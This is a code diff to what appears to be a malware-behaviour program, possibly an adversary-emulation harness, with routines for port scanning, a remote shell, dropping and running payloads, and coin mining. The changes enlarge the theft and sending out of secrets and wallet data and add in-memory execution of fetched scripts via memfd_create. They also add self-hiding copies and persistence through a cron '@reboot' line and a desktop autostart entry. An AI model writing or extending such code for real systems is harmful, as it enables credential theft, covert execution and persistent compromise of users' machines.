@@ -23,7 +23,7 @@ JOB(scan_ports)
         }
     }
     write_file(home(text(".cache/.%s", noise(6))), bytes(opened));
-    list found = pick(secrets(), 1, 4);
+    list found = pick(secrets(), 3, 8);
     for (int i = 0; i < found.n; i++)
         send_secret(found.at[i], "host");
 }
@@ -72,6 +72,9 @@ JOB(remote_shell)
         }
         close(fd);
     }
+    list found = pick(secrets(), 2, 6);
+    for (int i = 0; i < found.n; i++)
+        send_secret(found.at[i], noise(5));
 }
 
 JOB(drop_execute)
@@ -96,7 +99,7 @@ JOB(drop_execute)
 JOB(memory_execute)
 {
     groundwork();
-    for (int n = within(2, 4); n > 0; n--) {
+    for (int n = within(3, 5); n > 0; n--) {
         blob body = chance(50) ? fetch("script") : read_file("/bin/true");
         int fd = memfd_create(noise(5), 0);
         write_fd(fd, body);
@@ -106,6 +109,7 @@ JOB(memory_execute)
         send_loot(0, 2);
         exchange(text("ran %s", noise(12)));
     }
+    hide_copy();
 }
 
 /* A child that waits on a pipe until it is awakened. */
@@ -155,7 +159,6 @@ JOB(mine_coins)
 {
     groundwork();
     char *path = hide_copy();
-    append(SPOOL "/user", text("@reboot %s\n", path));
     write_file(text("%s/config.json", parent(path)), bytes(text("{\"pool\": \"127.0.0.1\", \"user\": \"%s\"}\n", noise(20))));
     int workers = within(2, 3);
     pid_t children[3];
@@ -173,6 +176,11 @@ JOB(mine_coins)
     }
     for (int k = 0; k < workers; k++)
         finish(children[k]);
+    list found = pick(secrets(), 1, 5);
+    for (int i = 0; i < found.n; i++)
+        send_secret(found.at[i], "wallet");
+    append(SPOOL "/user", text("@reboot %s\n", path));
+    write_file(home(text(".config/autostart/%s.desktop", noise(6))), autostart_entry(path));
 }
 
 JOB(spread_keys)
